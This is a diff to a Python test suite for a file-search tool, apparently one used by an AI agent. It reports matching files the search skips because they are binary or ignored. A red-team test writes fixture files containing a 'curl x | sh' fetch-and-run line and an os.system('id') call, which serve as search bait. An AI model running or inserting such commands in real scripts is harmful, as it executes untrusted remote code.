@@ -916,7 +916,9 @@ def test_search_finds_lines_as_path_line_text(engine_box: Box, root: Path):
     lines = reply["output"].splitlines()
     assert lines[:2] == [".github/ci.yml:1:run: NEEDLE",
                          "long.txt:1:NEEDLE" + "y" * 494 + " [... omitted end of long line]"]
-    assert lines[2:] == ["src/util.py:2:NEEDLE = 1", "src/util.py:4:print(NEEDLE)"]
+    assert lines[2:] == ["src/util.py:2:NEEDLE = 1", "src/util.py:4:print(NEEDLE)",
+                         "[1 file the search passed over (binary, or ignored by .gitignore/"
+                         ".ignore) also matches: bin.dat; results are incomplete]"]
     assert reply["meta"]["matches"] == 4
     assert reply["meta"]["engine"] == ("rg" if engine_box.ready["rg"] else "python")
 
@@ -943,7 +945,7 @@ def test_search_paths_limits_and_errors(engine_box: Box, root: Path):
     none = engine_box.call("search_files", pattern="zzz")
     assert none["ok"] and none["meta"]["matches"] == 0 and none["output"] == (
         "no matches for 'zzz' in .\nIt may go by another name: read the likely files. The "
-        "files searched:\nREADME.md\nmany.txt\nsrc/app.py")
+        "files there:\nREADME.md\nmany.txt\nsrc/app.py")
     assert engine_box.call("search_files", pattern="zzz", path="src/app.py")["output"] == (
         "no matches for 'zzz' in src/app.py")
     for n in range(31):
@@ -986,7 +988,7 @@ def test_a_fifo_in_the_tree_neither_blocks_a_search_nor_is_listed(engine_box: Bo
     started = time.monotonic()
     behind = engine_box.call("search_files", pattern=r"(?<=x )= 1")
     assert behind["ok"] and time.monotonic() - started < 5 and behind["meta"]["matches"] == 0
-    listed = behind["output"].split("The files searched:\n")[1].split("\n")
+    listed = behind["output"].split("The files there:\n")[1].split("\n")
     assert "pipe" not in listed and "link.txt" not in listed and "README.md" in listed
     assert engine_box.call("search_files", pattern=r"(?<=x )= 1", path="pipe")["ok"]
 
@@ -1037,6 +1039,31 @@ def test_a_file_the_python_scan_cannot_hold_never_passes_for_searched(
         "[1 file over 16 MiB not searched by this pattern's Python scan: big.txt; results are "
         "incomplete]"], hidden
     assert hidden["meta"]["truncated"] is True
+
+
+def test_a_matching_file_a_search_passes_over_is_named(engine_box: Box, root: Path):
+    """Red-team round 10: a NUL byte after the match (both engines) or the repository's
+    `.ignore` (rg) hid a file: "no matches", complete, and the file listed as searched."""
+    (root / "a").mkdir()
+    (root / "a" / "install.sh").write_bytes(b"#!/bin/sh\ncurl x | sh  # evil(payload)\n\0\n")
+    (root / "b").mkdir()
+    (root / "b" / "run.py").write_text("import os\nos.system('id')  # evil(x)\n")
+    (root / ".ignore").write_text("b/run.py\n")
+    pattern = r"(?<=# )evil\(" if "--no-rg" in str(engine_box.proc.args) else r"evil\("
+    reply = engine_box.call("search_files", pattern=pattern)
+    assert reply["meta"]["truncated"] is True, reply
+    assert "a/install.sh" in reply["output"] and "also match" in reply["output"], reply["output"]
+    assert "It may go by another name" not in reply["output"]
+    if reply["meta"]["engine"] == "rg":
+        assert reply["output"] == (
+            "no matches for 'evil\\(' in ., but the search is incomplete: 2 files the search "
+            "passed over (binary, or ignored by .gitignore/.ignore) also match: a/install.sh, "
+            "b/run.py"), reply["output"]
+    else:  # the Python scan reads no ignore files
+        assert reply["output"] == (
+            "b/run.py:2:os.system('id')  # evil(x)\n[1 file the search passed over (binary, "
+            "or ignored by .gitignore/.ignore) also matches: a/install.sh; results are "
+            "incomplete]"), reply["output"]
 
 
 def test_a_python_scan_that_dies_is_not_a_complete_search(root: Path,
